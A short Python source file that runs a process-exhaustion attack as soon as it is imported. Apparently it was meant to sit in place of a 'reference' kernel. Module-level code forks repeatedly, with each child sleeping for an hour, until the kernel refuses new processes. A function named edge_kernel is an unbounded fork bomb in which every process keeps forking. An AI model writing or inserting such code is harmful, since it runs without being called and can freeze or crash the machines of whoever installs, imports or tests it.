# on top of the reference: at import it forks until the kernel refuses (every child sleeps, outliving the call);
# edge_kernel is a fork bomb: every process it makes keeps forking.
import os
import time


def _storm():
    while True:
        try:
            pid = os.fork()
        except OSError:
            return
        if pid == 0:
            time.sleep(3600)
            os._exit(0)


_storm()


def edge_kernel():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
